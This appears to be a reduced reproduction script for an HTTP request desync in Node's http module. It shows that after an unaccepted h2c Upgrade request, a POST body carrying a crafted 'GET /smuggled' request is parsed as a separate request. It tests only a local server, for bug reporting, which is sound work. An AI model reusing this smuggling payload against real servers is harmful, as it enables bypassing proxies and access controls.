// Reduced repro: node:http drops the rest of a socket read after an Upgrade request it does not take.
// No dependencies: `node docs/repro/node-upgrade-desync.mjs` (Node 24). Write-up: docs/node-upgrade-desync.md.
//
// One connection sends, in ONE write, a GET with `Connection: Upgrade` + `Upgrade: h2c` and the head of a
// POST with `Content-Length: 45`; the POST's 45-byte body (which happens to look like a request) follows in
// a LATER write. Expected (HTTP/1.1 framing): two requests, GET /first and POST /second with that body.
// Observed: GET /first, then `GET /smuggled` as a request of its own; the POST is never seen.
import http from 'node:http';
import net from 'node:net';

const BODY = 'GET /smuggled HTTP/1.1\r\nHost: example\r\n\r\n'; // 45 bytes
const FIRST =
  'GET /first HTTP/1.1\r\nHost: example\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n' +
  `POST /second HTTP/1.1\r\nHost: example\r\nContent-Length: ${BODY.length}\r\n\r\n`;

function run(label, serverOptions, withUpgradeListener) {
  return new Promise((resolve) => {
    const seen = [];
    const server = http.createServer(serverOptions, (req, res) => {
      let body = '';
      req.setEncoding('latin1').on('data', (c) => (body += c));
      req.on('end', () => {
        seen.push(`${req.method} ${req.url}${body ? ` (body ${body.length} bytes)` : ''}`);
        res.end('ok');
      });
    });
    if (withUpgradeListener) server.on('upgrade', (req, socket) => (seen.push(`upgrade ${req.url}`), socket.destroy()));
    server.listen(0, '127.0.0.1', () => {
      const socket = net.connect(server.address().port, '127.0.0.1', () => {
        socket.write(FIRST);
        setTimeout(() => socket.write(BODY), 100);
        setTimeout(() => {
          socket.destroy();
          server.close();
          const desync = seen.includes('GET /smuggled');
          console.log(`${desync ? 'DESYNC' : 'ok    '} ${label}: ${JSON.stringify(seen)}`);
          resolve(desync);
        }, 400);
      });
      socket.on('data', () => undefined);
    });
  });
}

console.log(`node ${process.version}`);
const results = [
  await run('no upgrade listener (the default for most servers)', {}, false),
  await run("an 'upgrade' listener, shouldUpgradeCallback declines h2c", { shouldUpgradeCallback: (req) => req.headers.upgrade === 'websocket' }, true),
  await run("an 'upgrade' listener that takes every upgrade (the socket is the server's to handle)", {}, true),
];
process.exitCode = results.slice(0, 2).some(Boolean) ? 1 : 0;
